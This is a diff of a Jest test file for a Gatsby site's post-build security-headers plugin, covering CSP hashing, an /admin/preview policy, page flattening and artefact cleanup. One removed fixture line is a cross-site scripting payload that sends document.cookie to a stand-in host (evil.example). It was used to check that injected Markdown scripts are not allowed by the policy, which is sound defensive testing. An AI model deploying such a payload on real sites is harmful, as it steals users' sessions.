@@ -10,19 +10,17 @@ import path from "node:path";
 import { cspHash } from "../../plugins/post-build/inline-scripts";
 import { toNginxInclude } from "../../plugins/post-build/nginx-headers";
 import { formOrigin, siteHeaders } from "../../plugins/post-build/security-headers";
-import { flattenPages, removeBuildArtefacts, restorePages } from "../../plugins/post-build/site-files";
+import { flattenPages, removeBuildArtefacts } from "../../plugins/post-build/site-files";
 import { writeSecurityHeaders } from "../../plugins/post-build/write-security-headers";
 
 const loader = "(function(c){/* the bundle loader */})(document.currentScript)";
 const compilationHash = 'window.___webpackCompilationHash="abc";';
-const editorScript = "new Image().src='https://evil.example/?'+document.cookie";
-const termsMarkdown = `<p>These terms apply.</p>\n<script>${editorScript}</script>`;
 const adminPolicy = "default-src 'self'; script-src 'self' 'unsafe-eval'";
 
-/** A page after the page-script rewrite: `body` where the page renders its Markdown. */
-const html = (pagePath: string, body = "") =>
+/** A page after the page-script rewrite. */
+const html = (pagePath: string) =>
   `<!DOCTYPE html><html><head><script type="application/ld+json">{}</script></head><body>` +
-  `<div id="___gatsby"><div class="prose">${body}</div></div><script>${compilationHash}</script>` +
+  `<div id="___gatsby"><p>${pagePath}</p></div><script>${compilationHash}</script>` +
   `<script id="bundle-loader" data-page="${pagePath}" data-bundles='["/app.js"]'>${loader}</script></body></html>`;
 
 function writeSite(files: Record<string, string>): string {
@@ -47,18 +45,15 @@ function rules(text: string): [string, string[]][] {
 
 describe("writeSecurityHeaders", () => {
   let siteDir: string;
-  let warn: jest.Mock;
   const write = (pageFiles: string[]) => {
     writeSecurityHeaders({
       siteDir,
       pageFiles,
       formEndpoint: "https://formspree.io/f/abcdwxyz",
-      markdown: [
-        { fileAbsolutePath: path.join(siteDir, "content/pages/terms.md"), html: termsMarkdown },
-        { fileAbsolutePath: path.join(siteDir, "content/pages/about.md"), html: "<p>About</p>" },
+      ownPolicy: [
+        { path: "/admin", file: "admin.html", headers: { "Content-Security-Policy": adminPolicy } },
+        { path: "/admin/preview", file: "admin/preview.html" },
       ],
-      ownPolicy: [{ path: "/admin", file: "admin.html", headers: { "Content-Security-Policy": adminPolicy } }],
-      warn,
     });
     return {
       headersFile: fs.readFileSync(path.join(siteDir, "public/_headers"), "utf8"),
@@ -70,14 +65,14 @@ describe("writeSecurityHeaders", () => {
     siteDir = writeSite({
       "index.html": html("/"),
       "about.html": html("/about"),
-      "terms.html": html("/terms", termsMarkdown),
+      "terms.html": html("/terms"),
       "404.html": html("/404.html"),
+      "admin/preview.html": html("/admin/preview"),
     });
-    warn = jest.fn();
   });
   afterEach(() => fs.rmSync(siteDir, { recursive: true, force: true }));
 
-  it("puts one policy on every address, hashing the pages' scripts but never an editor's", () => {
+  it("puts one policy on every address, hashing the pages' scripts", () => {
     const { headersFile, nginxFile } = write(["404.html", "about.html", "index.html", "terms.html"]);
     const [first, ...others] = rules(headersFile);
     expect(first![0]).toBe("/*");
@@ -89,17 +84,35 @@ describe("writeSecurityHeaders", () => {
     );
     expect(others.filter(([, lines]) => lines.some((l) => l.startsWith("Content-Security-Policy:")))).toEqual([
       ["/admin", ["! Content-Security-Policy", `Content-Security-Policy: ${adminPolicy}`]],
+      [
+        "/admin/preview",
+        [
+          "! Content-Security-Policy",
+          "! X-Frame-Options",
+          "! X-Robots-Tag",
+          policy
+            .replace("img-src 'self' data:", "img-src 'self' data: blob:")
+            .replace("frame-ancestors 'none'", "frame-ancestors 'self'"),
+          "X-Frame-Options: SAMEORIGIN",
+          "X-Robots-Tag: noindex, nofollow",
+        ],
+      ],
     ]);
-    expect(headersFile + nginxFile).not.toContain(cspHash(editorScript));
-    expect(warn).toHaveBeenCalledTimes(1);
-    expect(warn.mock.calls[0]![0]).toMatch(/^content\/pages\/terms\.md contains a <script> in its Markdown/);
+    expect(nginxFile).toContain('add_header X-Frame-Options "SAMEORIGIN" always;');
   });
 
   it("writes the same rules however many pages and bundles there are", () => {
     const few = write(["about.html", "index.html"]);
     const many = write(["404.html", "about.html", "index.html", "terms.html"]);
     expect(rules(many.headersFile).map(([rule]) => rule)).toEqual(rules(few.headersFile).map(([rule]) => rule));
-    expect(rules(many.headersFile).map(([rule]) => rule)).toEqual(["/*", "/*.js", "/*.css", "/static/*", "/admin"]);
+    expect(rules(many.headersFile).map(([rule]) => rule)).toEqual([
+      "/*",
+      "/*.js",
+      "/*.css",
+      "/static/*",
+      "/admin",
+      "/admin/preview",
+    ]);
     expect(many.nginxFile.split("\n").length).toBe(few.nginxFile.split("\n").length);
   });
 
@@ -119,10 +132,13 @@ describe("writeSecurityHeaders", () => {
     );
   });
 
-  it("warns when a page lacks inline scripts the others have, as the one policy is then wider than it", () => {
+  it("stops the build when a page has no inline script, or not the ones the others have", () => {
     fs.writeFileSync(path.join(siteDir, "public/about.html"), "<html><body>no scripts</body></html>");
-    write(["about.html", "index.html"]);
-    expect(warn.mock.calls.map((call) => call[0])).toContainEqual(expect.stringMatching(/^about\.html lack/));
+    expect(() => write(["about.html", "index.html"])).toThrow(/^Security headers: about\.html has no inline script/);
+    fs.writeFileSync(path.join(siteDir, "public/about.html"), html("/about").replace(compilationHash, ""));
+    expect(() => write(["about.html", "index.html"])).toThrow(
+      /^Security headers: (about|index)\.html has no inline scripts the same as the other pages'/,
+    );
   });
 
   it("gives nginx the same headers in every location, `always`, the addresses hosts have, and /admin its policy", () => {
@@ -142,8 +158,8 @@ describe("writeSecurityHeaders", () => {
   });
 });
 
-describe("flattenPages and restorePages", () => {
-  const pagePaths = ["/", "/about", "/404/", "/404.html"];
+describe("flattenPages", () => {
+  const pagePaths = ["/", "/about", "/404/", "/404.html", "/admin/preview"];
   let siteDir: string;
   beforeEach(() => {
     siteDir = writeSite({
@@ -151,6 +167,8 @@ describe("flattenPages and restorePages", () => {
       "about/index.html": "about",
       "404/index.html": "404 again",
       "404.html": "404",
+      "admin/preview/index.html": "preview",
+      "admin/cms.js": "",
     });
   });
   afterEach(() => fs.rmSync(siteDir, { recursive: true, force: true }));
@@ -160,40 +178,38 @@ describe("flattenPages and restorePages", () => {
     expect(flattenPages(path.join(siteDir, "public"), pagePaths)).toEqual([
       { file: "404.html", pagePath: "/404.html" },
       { file: "about.html", pagePath: "/about" },
+      { file: "admin/preview.html", pagePath: "/admin/preview" },
       { file: "index.html", pagePath: "/" },
     ]);
-    expect(listing()).toEqual(["404.html", "about.html", "index.html"]);
+    expect(listing()).toEqual(["404.html", "about.html", "admin", "admin/cms.js", "admin/preview.html", "index.html"]);
+    expect(fs.readFileSync(path.join(siteDir, "public/404.html"), "utf8")).toBe("404");
   });
 
-  it("puts the pages back where Gatsby wrote them, for a warm build", () => {
-    flattenPages(path.join(siteDir, "public"), pagePaths);
-    restorePages(path.join(siteDir, "public"), pagePaths);
-    expect(listing()).toEqual(["404", "404.html", "404/index.html", "about", "about/index.html", "index.html"]);
-    expect(fs.readFileSync(path.join(siteDir, "public/about/index.html"), "utf8")).toBe("about");
+  it("stops the build when a page is not where Gatsby writes it", () => {
+    fs.rmSync(path.join(siteDir, "public/about"), { recursive: true });
+    expect(() => flattenPages(path.join(siteDir, "public"), pagePaths)).toThrow(
+      /^Page files: about\/index\.html has no page for \/about, where Gatsby writes it/,
+    );
   });
 });
 
 describe("removeBuildArtefacts", () => {
-  it("removes earlier builds' bundles before the build, and webpack's and Gatsby's build-only files", () => {
+  it("removes webpack's and Gatsby's build-only files and the source maps", () => {
     const siteDir = writeSite({
       "app-707c4a314819745e08c7.js": "",
       "app-707c4a314819745e08c7.js.map": "",
-      "framework-79115e5376afaa5decf7.js.LICENSE.txt": "",
-      "styles.9bdfcd88dfaacee55209.css": "",
       "webpack.stats.json": "{}",
       "chunk-map.json": "{}",
       "_gatsby/slices/_gatsby-scripts-1.html": "",
       "~partytown/partytown.js": "",
       "index.html": "",
-      "favicon.svg": "",
       "static/abc/photo.jpg": "",
     });
     const publicDir = path.join(siteDir, "public");
-    expect(removeBuildArtefacts(publicDir, { bundles: false }).sort()).toEqual(
+    expect(removeBuildArtefacts(publicDir).sort()).toEqual(
       ["_gatsby", "app-707c4a314819745e08c7.js.map", "chunk-map.json", "webpack.stats.json", "~partytown"].sort(),
     );
-    removeBuildArtefacts(publicDir, { bundles: true });
-    expect(fs.readdirSync(publicDir).sort()).toEqual(["favicon.svg", "index.html", "static"]);
+    expect(fs.readdirSync(publicDir).sort()).toEqual(["app-707c4a314819745e08c7.js", "index.html", "static"]);
     fs.rmSync(siteDir, { recursive: true, force: true });
   });
 });
